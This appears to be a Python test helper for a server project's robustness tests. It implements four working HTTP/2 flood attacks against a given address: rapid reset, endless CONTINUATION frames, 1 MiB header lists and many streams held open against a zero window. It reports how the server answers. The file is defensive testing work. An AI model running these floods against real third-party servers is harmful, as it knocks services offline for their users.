"""HTTP/2 floods against one clew port, for tests/h2_flood.rs.

    h2_flood.py ATTACK --addr HOST:PORT --target grpc|http|query [--connections N]
                       [--seconds S] [--streams N]

Attacks (docs/robustness.md, "HTTP/2 floods"):

  rapid_reset    complete requests (HEADERS with END_STREAM) each followed at once by
                 RST_STREAM(CANCEL), in batches of 100 per write, as fast as Python goes,
                 on --connections connections at once; a connection the server closes is
                 replaced by a new one until --seconds are up (h2's H2Connection)
  continuation   HEADERS without END_HEADERS followed by CONTINUATION frames without end,
                 each full of never-indexed junk headers (raw frames: h2 will not send this),
                 on one connection after another until --seconds are up; a connection
                 still taking frames after 16 MiB counts as not_cut_off
  huge_headers   requests whose header list is 1 MiB (a few big headers, in 16 KiB
                 CONTINUATION frames, END_HEADERS at the end), over and over
  many_streams   a zero flow-control window (SETTINGS_INITIAL_WINDOW_SIZE = 0: the server
                 may not send a byte of any answer), then --streams requests opened at once
                 and left open (no END_STREAM), fed one body byte and one WINDOW_UPDATE of
                 one byte per second each, for --seconds

Prints one JSON object on stdout: what the server answered (its SETTINGS, GOAWAY codes,
RST_STREAM codes, responses; for many_streams how many streams it still held open on one
connection at the end, neither refused, answered nor cut off by a GOAWAY).
"""

import argparse
import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import hpack
from hpack import NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

ARGS = None
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATHS = {
    "grpc": ("POST", "/opentelemetry.proto.collector.trace.v1.TraceService/Export", "application/grpc"),
    "http": ("POST", "/v1/traces", "application/x-protobuf"),
    "query": ("GET", "/api/v1/services", None),
}


def request_headers(target, authority):
    method, path, content_type = PATHS[target]
    path = ARGS.path or path
    headers = [
        (":method", method),
        (":scheme", "http"),
        (":path", path),
        (":authority", authority),
    ]
    if content_type:
        headers.append(("content-type", content_type))
    if target == "grpc":
        headers.append(("te", "trailers"))
    return headers


def error_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(code)


class Report:
    """What the server did, summed over every connection of an attack."""

    def __init__(self):
        self.connections = 0
        self.goaway = {}
        self.resets = {}
        self.responses = {}
        self.closed_by_server = 0
        self.requests_sent = 0
        self.max_open_streams = 0
        self.server_settings = {}
        self.bytes_sent = 0
        self.max_bytes_sent_on_one_connection = 0
        self.streams_left_open_at_end = 0
        self.not_cut_off = 0

    def count(self, table, key):
        table[key] = table.get(key, 0) + 1

    def as_json(self):
        return json.dumps(self.__dict__, sort_keys=True)


def connect(addr):
    host, port = addr.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


class RawConnection:
    """A client connection written frame by frame (hyperframe, hpack: h2's own layers),
    for what a well-behaved client such as H2Connection refuses to send."""

    def __init__(self, addr, report, settings=None):
        self.sock = connect(addr)
        self.sock.setblocking(False)
        self.report = report
        self.encoder = hpack.Encoder()
        self.buf = b""
        self.closed = False
        self.sent = 0
        self.open = set()
        report.connections += 1
        s = SettingsFrame(0)
        s.settings = {SettingsFrame.ENABLE_PUSH: 0, **(settings or {})}
        self.send(PREFACE + s.serialize())

    def send(self, data):
        """Writes all of `data`, reading (and answering) the server meanwhile; False once
        the server closed the connection."""
        view = memoryview(data)
        while view and not self.closed:
            _, writable, _ = select.select([self.sock], [self.sock], [], 5)
            if self.sock in writable:
                try:
                    n = self.sock.send(view)
                except (BlockingIOError, InterruptedError):
                    n = 0
                except OSError:
                    self.close_by_server()
                    break
                view = view[n:]
                self.sent += n
                self.report.bytes_sent += n
                self.report.max_bytes_sent_on_one_connection = max(
                    self.report.max_bytes_sent_on_one_connection, self.sent
                )
            self.read()
        return not self.closed

    def read(self, wait=0.0):
        """Reads what the server sent within `wait` seconds and handles its frames."""
        deadline = time.monotonic() + wait
        while not self.closed:
            left = max(0.0, deadline - time.monotonic())
            readable, _, _ = select.select([self.sock], [], [], left)
            if not readable:
                return
            try:
                chunk = self.sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                chunk = b""
            if not chunk:
                self.close_by_server()
                return
            self.buf += chunk
            self.frames()

    def frames(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            self.handle(frame)

    def handle(self, frame):
        r = self.report
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            for k, v in frame.settings.items():
                r.server_settings[str(k)] = v
            self.sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            self.sock.sendall(PingFrame(0, data=frame.opaque_data, flags=["ACK"]).serialize())
        elif isinstance(frame, GoAwayFrame):
            r.count(r.goaway, error_name(frame.error_code))
            # streams above the last one the server processed were never opened
            self.open = {s for s in self.open if s <= frame.last_stream_id}
        elif isinstance(frame, RstStreamFrame):
            r.count(r.resets, error_name(frame.error_code))
            self.open.discard(frame.stream_id)
        elif isinstance(frame, HeadersFrame):
            block = frame.data
            # Only the first HEADERS of a response carries :status; the decoder is ours alone.
            try:
                status = dict(self.decoder().decode(block)).get(":status")
            except Exception:
                status = "undecodable"
            if status is not None:
                r.count(r.responses, str(status))
            if "END_STREAM" in frame.flags:
                self.open.discard(frame.stream_id)
        elif isinstance(frame, DataFrame) and "END_STREAM" in frame.flags:
            self.open.discard(frame.stream_id)

    def decoder(self):
        if not hasattr(self, "_decoder"):
            self._decoder = hpack.Decoder()
            self._decoder.max_header_list_size = 1 << 24
        return self._decoder

    def close_by_server(self):
        if not self.closed:
            self.closed = True
            self.report.closed_by_server += 1

    def close(self):
        self.closed = True
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(args, report):
    """HEADERS + RST_STREAM pairs through h2's H2Connection (a real client's framing)."""
    deadline = time.monotonic() + args.seconds
    authority = args.addr
    headers = request_headers(args.target, authority)
    conns = []

    def open_one():
        sock = connect(args.addr)
        conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        sock.setblocking(False)
        report.connections += 1
        return [sock, conn, False]

    def pump(entry):
        sock, conn, _ = entry
        while True:
            try:
                data = sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                data = b""
            if not data:
                entry[2] = True
                report.closed_by_server += 1
                return
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                events = []
            for e in events:
                if isinstance(e, h2.events.ConnectionTerminated):
                    report.count(report.goaway, error_name(e.error_code))
                elif isinstance(e, h2.events.StreamReset) and e.remote_reset:
                    report.count(report.resets, error_name(e.error_code))
                elif isinstance(e, h2.events.ResponseReceived):
                    report.count(report.responses, dict(e.headers).get(":status", "?"))
                elif isinstance(e, h2.events.RemoteSettingsChanged):
                    for k, v in e.changed_settings.items():
                        report.server_settings[str(int(k))] = v.new_value
            try:
                out = conn.data_to_send()
                if out:
                    sock.sendall(out)
            except OSError:
                pass

    conns = [open_one() for _ in range(args.connections)]
    while time.monotonic() < deadline:
        for i, entry in enumerate(conns):
            sock, conn, dead = entry
            if not dead:
                try:
                    for _ in range(100):
                        sid = conn.get_next_available_stream_id()
                        conn.send_headers(sid, headers, end_stream=True)
                        conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                    data = conn.data_to_send()
                    sock.setblocking(True)
                    sock.sendall(data)
                    sock.setblocking(False)
                    report.requests_sent += 100
                    report.bytes_sent += len(data)
                except (h2.exceptions.ProtocolError, OSError):
                    entry[2] = True
                    report.closed_by_server += 1
                pump(entry)
            if entry[2]:
                sock.close()
                conns[i] = open_one()
    for sock, _, _ in conns:
        sock.close()


def continuation(args, report):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block."""
    deadline = time.monotonic() + args.seconds
    junk = [NeverIndexedHeaderTuple("x-flood-%d" % i, "a" * 200) for i in range(60)]
    while time.monotonic() < deadline:
        conn = RawConnection(args.addr, report)
        conn.read(0.2)
        enc = conn.encoder
        first = enc.encode(request_headers(args.target, args.addr))
        ok = conn.send(HeadersFrame(1, data=first).serialize())
        report.requests_sent += 1
        # on until the server cuts the connection off, or 16 MiB were taken in
        while ok and conn.sent < 16 << 20:
            block = enc.encode(junk)
            ok = conn.send(ContinuationFrame(1, data=block).serialize())
        if ok:
            report.not_cut_off += 1
        conn.read(0.5)
        conn.close()


def huge_headers(args, report):
    """Complete requests with a 1 MiB header list, split into 16 KiB CONTINUATION frames."""
    deadline = time.monotonic() + args.seconds
    big = [NeverIndexedHeaderTuple("x-huge-%d" % i, "b" * 8000) for i in range(128)]
    while time.monotonic() < deadline:
        conn = RawConnection(args.addr, report)
        conn.read(0.2)
        sid = 1
        while not conn.closed and time.monotonic() < deadline and sid < 2001:
            block = conn.encoder.encode(request_headers(args.target, args.addr) + big)
            chunks = [block[i : i + 16384] for i in range(0, len(block), 16384)]
            frames = [HeadersFrame(sid, data=chunks[0], flags=["END_STREAM"])]
            frames += [ContinuationFrame(sid, data=c) for c in chunks[1:]]
            frames[-1].flags.add("END_HEADERS")
            conn.send(b"".join(f.serialize() for f in frames))
            report.requests_sent += 1
            sid += 2
        conn.read(0.5)
        conn.close()


def many_streams(args, report):
    """Thousands of requests opened at once and left open, against a zero window."""
    conns = [
        RawConnection(args.addr, report, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        for _ in range(args.connections)
    ]
    for conn in conns:
        conn.read(0.2)
        out = []
        for i in range(args.streams):
            sid = 1 + 2 * i
            block = conn.encoder.encode(request_headers(args.target, args.addr))
            out.append(HeadersFrame(sid, data=block, flags=["END_HEADERS"]).serialize())
            conn.open.add(sid)
            report.requests_sent += 1
        conn.send(b"".join(out))
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        for conn in conns:
            conn.read(0.05)
        for conn in conns:
            if conn.closed:
                continue
            # one body byte per stream still open, and one byte more of window for answers
            frames = []
            if args.target != "query":
                frames += [DataFrame(s, data=b"\0").serialize() for s in sorted(conn.open)]
            frames += [WindowUpdateFrame(s, window_increment=1).serialize() for s in sorted(conn.open)]
            conn.send(b"".join(frames))
        time.sleep(max(0.0, min(1.0, deadline - time.monotonic())))
    # What the server still holds open at the end, once all it sent has been read.
    for conn in conns:
        conn.read(0.5)
    for conn in conns:
        if not conn.closed:
            report.streams_left_open_at_end += len(conn.open)
            report.max_open_streams = max(report.max_open_streams, len(conn.open))
        conn.close()


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "huge_headers": huge_headers,
    "many_streams": many_streams,
}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--addr", required=True)
    p.add_argument("--target", choices=sorted(PATHS), required=True)
    p.add_argument("--connections", type=int, default=1)
    p.add_argument("--seconds", type=float, default=5)
    p.add_argument("--streams", type=int, default=2000)
    p.add_argument("--path", help="request this path instead of the target's usual one")
    args = p.parse_args()
    global ARGS
    ARGS = args
    report = Report()
    ATTACKS[args.attack](args, report)
    print(report.as_json())


if __name__ == "__main__":
    sys.exit(main())
